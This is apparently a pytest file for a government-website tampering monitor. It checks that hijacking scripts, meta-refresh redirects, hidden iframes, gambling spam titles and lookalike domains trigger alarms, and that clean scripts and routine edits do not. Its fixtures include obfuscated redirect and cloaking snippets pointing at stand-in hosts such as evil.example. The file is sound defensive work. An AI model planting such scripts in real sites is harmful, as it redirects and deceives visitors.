"""Scripts, redirects and hijacked names: each alarms, and its clean twin does not; ordinary editing never does."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fjgov_tui.monitor.checks.integrity import compare, new_scripts
from fjgov_tui.monitor.checks.views import alike, another_page, inline_of, other_title
from fjgov_tui.observed.model import Snapshot
from fjgov_tui.observed.pages import Json
from fjgov_tui.pages.shot import Shot, diff, digest, read_shot
from fjgov_tui.pages.tampering import integrity
from tests.pages.cms import SITE, Entry, page, table
from tests.pages.tampered import EVIL, FIRST, entries, look, sound, told

HOST = "www.bc888.example.top"
CODES = ",".join(str(ord(one)) for one in "document.location='http://x.example'")
LONG = base64.b64encode(b"document.write('<script src=//evil.example/a.js></script>');" * 5).decode()
PICTURE = base64.b64encode(bytes(range(256)) * 2).decode()
KEY = "MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQC" + "A1b2C3d4" * 22 + "IDAQAB"

SCRIPTS = {
    "searchers": ("if(/baidu|sogou|so\\.com/i.test(document.referrer)){location.href='/x'}", "script"),
    "spider": ("if(navigator.userAgent.indexOf('Baiduspider')>-1){document.write('<a href=/x>x</a>')}", "script"),
    "eval": ("eval(unescape('%61%6c%65%72%74'))", "script"),
    "packed": ("eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}))", "script"),
    "function": ("new Function(atob('YWxlcnQoMSk='))()", "script"),
    "codes": (f"var s=String.fromCharCode({CODES});", "redirect"),
    "hex": ("var a=[" + ",".join("'\\x64\\x6f\\x63'" for _ in range(10)) + ",'\\x62\\x63\\x38\\x38.com']", "script"),
    "base64": (f"var s='{LONG}';", "script"),
    "away": (f"window.location.href='{EVIL}/';", "redirect"),
    "away-loaded": (f"window.onload=function(){{ location.href='{EVIL}' }}", "redirect"),
    "away-any-click": (f"document.addEventListener('click', function(){{ window.open('{EVIL}') }})", "redirect"),
    "away-replace": (f"setTimeout(function(){{ top.location.replace('{EVIL}') }}, 100)", "redirect"),
}
CLEAN = {
    "mobile": "if(/Android|iPhone/i.test(navigator.userAgent)){location.href='/m/'}",
    "statistics": "var _hmt=_hmt||[];(function(){var hm=document.createElement('script');"
    "hm.src='https://hm.baidu.com/hm.js?abc';var s=document.getElementsByTagName('script')[0];"
    "s.parentNode.insertBefore(hm,s);})();",
    "both": "if(/Android/.test(navigator.userAgent)){location.href='/m/'} var a=document.createElement('script');"
    "a.src='https://hm.baidu.com/hm.js?abc';",
    "cnzz": "document.write(unescape(\"%3Cscript src='https://s4.cnzz.com/stat.php?id=1' type='text/javascript'%3E"
    '%3C/script%3E"));',
    "search": "function go(){ window.location.href='http://search.example.com/?q='+q; }",
    "handler": f"var site={{ open: function(url) {{ location.href='{EVIL}' }} }};",
    "arrow": f"const go = () => {{ window.location.href='{EVIL}' }};",
    "method": f"new Vue({{methods:{{ go() {{ window.open('{EVIL}') }} }}}})",
    "pressed": f"$('.btn').click(function(){{ location.href='{EVIL}' }});",
    "pressed-anywhere": f"$(document).on('click', '.btn', function(){{ window.open('{EVIL}') }});",
    "listener": f"document.getElementById('b').addEventListener('click', function(){{ location.href='{EVIL}' }});",
    "key": f"encrypt.setPublicKey('{KEY}');",
    "picture": f"img.src='data:image/png;base64,{PICTURE}'; var p='{PICTURE}';",
    "chinese": "var t='" + "\\u653f\\u5e9c" * 40 + "';",
    "own": "location.href='/index.html';",
    "read": "var here = window.location.href; if (location.protocol=='http:') {}",
}


@pytest.mark.parametrize(("script", "rule"), SCRIPTS.values(), ids=SCRIPTS.keys())
def test_a_hijackers_script_alarms(script: str, rule: str) -> None:
    shot, alarms = look(sound(f"<script>{script}</script>"))
    assert [(one.rule, one.severity) for one in alarms] == [(rule, "violation")]
    assert alarms[0].script in shot.inline
    assert alarms[0].mark == f"inline:{alarms[0].script}"


@pytest.mark.parametrize("script", CLEAN.values(), ids=CLEAN.keys())
def test_an_ordinary_script_does_not(script: str) -> None:
    assert told(sound(f"<script>{script}</script>")) == []


def test_a_script_that_is_no_program_is_left_alone() -> None:
    assert told(sound(f"<script type='text/template'>location.href='{EVIL}'</script>")) == []
    assert told(sound(f"<body onload=\"location='{EVIL}'\">")) != []


@pytest.mark.parametrize("inside", ["0;url={0}", "3; URL='{0}/x'"])
def test_a_meta_refresh_to_a_stranger_is_a_redirect(inside: str) -> None:
    assert told(sound(head=f'<meta http-equiv="Refresh" content="{inside.format(EVIL)}">')) == [("redirect", HOST)]
    assert told(sound(head='<meta http-equiv="refresh" content="0;url=/index.html">')) == []
    assert told(sound(head='<meta http-equiv="refresh" content="300">')) == []


def test_a_frame_of_no_size_alarms_and_one_of_our_own_does_not() -> None:
    assert told(sound(f'<iframe src="{EVIL}/" width="0" height="0"></iframe>')) == [("script", f"frame:{HOST}")]
    assert told(sound('<iframe src="/tj.html" width="0" height="0"></iframe>')) == []


@pytest.mark.parametrize(
    ("head", "alarmed"),
    [
        ("<meta name=keywords content='澳门新葡京,百家乐'>", True),
        ("<meta name=description content='注册送彩金'>", True),
        ("<meta name=keywords content='奉节县,打击六合彩赌博'>", False),
        ("<meta name=description content='奉节县人民政府门户网站'>", False),
    ],
)
def test_hijackers_terms_in_the_head(head: str, alarmed: bool) -> None:
    assert [rule for rule, _ in told(sound(head=head))] == (["title"] if alarmed else [])


def test_a_hijacked_title() -> None:
    html = sound().replace("<title>奉节县人民政府</title>", "<title>六&#x5408;彩 开奖结果</title>")
    assert told(html) == [("title", "标题:六合彩")]


def baseline() -> Shot:
    return look(sound())[0]


titles = st.text(
    alphabet="县水利农业林教育局镇乡开展召推进落实会议检查工作安全生产防汛抗旱春耕第一二三四五六次",
    min_size=8,
    max_size=30,
)


@given(st.lists(titles, min_size=0, max_size=40, unique=True), st.booleans())
def test_ordinary_editing_never_alarms(news: list[str], keep: bool) -> None:
    fresh = [Entry(title, FIRST) for title in news]
    shot, alarms = look(sound(news=[*fresh, *(entries(15) if keep else [])]))
    assert alarms == []
    assert compare(baseline(), shot) == []


@given(st.integers(1, 60), st.integers(1, 60))
def test_a_list_whose_every_entry_was_replaced_is_the_same_page(before: int, after: int) -> None:
    old = look(page(table(entries(before))))[0]
    new = look(page(table(entries(after, start=1000))))[0]
    assert compare(old, new) == []


def test_new_foreign_things_are_told_by_what_they_are() -> None:
    extra = (
        f'<script src="{EVIL}/a.js"></script><iframe src="http://frame.example.net/x"></iframe>'
        '<form action="//form.example.org/login"></form><a href="http://friend.example.info/">伙伴</a>'
        '<img src="http://pic.example.biz/1.gif">'
    )
    shot = look(sound(extra))[0]
    found = {(one.rule, one.mark, one.severity) for one in compare(baseline(), shot)}
    assert found == {
        ("script", f"script:{HOST}", "violation"),
        ("script", "frame:frame.example.net", "violation"),
        ("script", "form:form.example.org", "violation"),
        ("outbound", "friend.example.info", "warning"),
        ("outbound", "pic.example.biz", "warning"),
    }
    assert compare(shot, shot) == []
    assert compare(shot, baseline()) == []


def test_a_page_that_was_replaced() -> None:
    for other in (
        "<html><head><title>Hacked by nobody</title></head><body><h1>Hacked</h1><p>x</p></body></html>",
        "<html><head><title>系统错误</title></head><body><p>数据库连接失败</p></body></html>",
    ):
        shot = look(other)[0]
        assert [(one.rule, one.severity) for one in compare(baseline(), shot)] == [("replaced", "violation")]
        assert another_page(baseline(), shot)
        assert alike(baseline(), shot) == 0


def test_a_title_that_has_become_another() -> None:
    assert not other_title("奉节县人民政府", "奉节县人民政府门户网站")
    assert not other_title("通知公告-白帝镇", "白帝镇人民政府-通知公告（第2页）")
    assert not other_title("", "什么都可以")
    assert other_title("奉节县人民政府", "Welcome to nginx!")
    assert other_title("奉节县人民政府", "")
    for title, severity in (("星河综合·XINGHE", "violation"), ("河道巡查工作", "warning"), ("", "warning")):
        changed = look(sound().replace("<title>奉节县人民政府</title>", f"<title>{title}</title>"))[0]
        told_of = [(one.rule, one.severity) for one in compare(baseline(), changed)]
        assert told_of == [("title", severity)], "a name of which nothing on the page speaks is no new name of a column"


def test_a_link_whose_words_led_home_and_lead_to_a_stranger_now() -> None:
    own, foreign = '<a href="/bsdt/">办事大厅</a>', f'<a href="{EVIL}/">办事大厅</a>'
    base = look(sound(own))[0]
    assert ("outbound", "violation") in [(one.rule, one.severity) for one in compare(base, look(sound(foreign))[0])]
    for kept in (sound(own + foreign.replace("办事大厅", "云上书城")), sound('<a href="/new/">办事大厅</a>')):
        assert "violation" not in [one.severity for one in compare(base, look(kept)[0])]
    friend = look(sound('<a href="http://www.yunshan-tour.example/">云山旅游</a>'))[0]
    for host, turned in (("www.yunshan-tours.example", False), (HOST, True)):
        shown = look(sound(f'<a href="http://{host}/">云山旅游</a>'))[0]
        told_of = [one.mark for one in compare(friend, shown) if one.severity == "violation"]
        assert told_of == [f"turned:{host}"] * turned, "a friend who moves house takes his name along"
    both = look(sound(f'<a href="http://www.yunshan-tour.example/">旧站</a><a href="{EVIL}/">云山旅游</a>'))[0]
    assert "violation" not in [one.severity for one in compare(friend, both)]


def test_a_code_to_scan_that_comes_from_a_stranger_now() -> None:
    base = look(sound('<img src="/img/wx.png" alt="微信公众号"><img src="/img/lake.jpg" alt="湖景">'))[0]
    for src, alt, turned in ((f"{EVIL}/wx.png", "微信公众号", True), ("/img/wx2.png", "微信公众号", False)):
        shown = look(sound(f'<img src="{src}" alt="{alt}">'))[0]
        assert [one.mark for one in compare(base, shown) if one.severity == "violation"] == [f"turned:{HOST}"] * turned
    assert "violation" not in [
        one.severity for one in compare(base, look(sound(f'<img src="{EVIL}/1.jpg" alt="湖景">'))[0])
    ], "pictures come from everywhere"


def test_a_handler_that_waits_for_a_press_is_a_link_unless_its_element_leads_elsewhere_itself() -> None:
    button = f"<button onclick=\"window.open('{EVIL}/')\">友情链接</button>"
    assert told(sound(button)) == []
    base = look(sound())[0]
    for pressed, severities in ((button, set()), (button.replace("<button", "<a href='/zwgk/'"), {"violation"})):
        about: dict[str, Json] = {"url": f"{SITE}/", "content_type": "text/html; charset=utf-8", "site": f"{SITE}/"}
        scripts = inline_of(integrity(sound(pressed).encode(), about).get("scripts"))
        assert {one.severity for one in new_scripts(base, scripts)} == severities


def snap(shot: Shot) -> Snapshot:
    return Snapshot(page_of="site", record=1, kind="latest", at=0, digest=digest(shot.body()), body=shot.body())


def test_a_diff_tells_exactly_what_came_and_went() -> None:
    old = look(sound())[0]
    new = look(sound(f'<div style="display:none"><a href="{EVIL}/">进入</a></div>', news=entries(15, start=1)))[0]
    lines = diff(snap(old), snap(new))
    assert {(one.sign, one.tag, one.text) for one in lines} == {
        ("+", "外链", HOST),
        ("-", "a", "县水利局开展第0次河道巡查工作"),
        ("+", "a", "县水利局开展第15次河道巡查工作"),
        ("+", "a", "进入"),
    }
    assert diff(snap(old), snap(old)) == ()
    short = diff(snap(old), snap(new), most=2)
    assert len(short) == 3
    assert short[-1].text == f"还有 {len(lines) - 2} 处改动没有列出"


def test_a_change_behind_the_shortened_part_of_a_block_is_a_change() -> None:
    long = "本县关于做好某某工作的通知正文，" * 20
    one, other = look(sound(f"<p>{long}甲</p>"))[0], look(sound(f"<p>{long}乙</p>"))[0]
    assert digest(one.body()) != digest(other.body())
    assert [line.sign for line in diff(snap(one), snap(other))] == ["-", "+"]


def test_a_shot_survives_being_kept() -> None:
    shot = look(sound(f'<a href="{EVIL}/">x\u202e\x1b[31m</a>'))[0]
    assert read_shot(shot.body()) == shot
    assert "\x1b" not in shot.body().decode()


def test_a_huge_page_is_kept_in_bounds() -> None:
    import zlib

    links = "".join(f'<a href="/x/{number}.html">第{number}条信息的标题文字内容</a>' for number in range(20_000))
    shot = look(sound(links))[0]
    assert len(zlib.compress(shot.body(), 6)) < 60_000
    assert shot.rest > 0


@pytest.mark.parametrize(
    "script", ["/*@cc_on @*/", "var ie=/*@cc_on!@*/false;", "if(!+[1,]){document.execCommand('BackgroundImageCache')}"]
)
def test_scripts_for_old_browsers_are_known(script: str) -> None:
    """Issue 10, section 4: conditional comments stand in half of the old templates."""
    assert told(sound(script=script)) == []


@pytest.mark.parametrize("host", ["www.fengji\u0435.com", "www.xn--fengji-8of.com", "www.fengjie.gov.cn.example.top"])
def test_a_host_that_only_looks_like_an_offices_is_told(host: str) -> None:
    """Letters of another alphabet, written out or in punycode, and an office's name in front of a stranger's."""
    found = told(sound(f"<a href='http://{host}/'>奉节县人民政府</a>"))
    assert [rule for rule, _ in found] == ["outbound"]
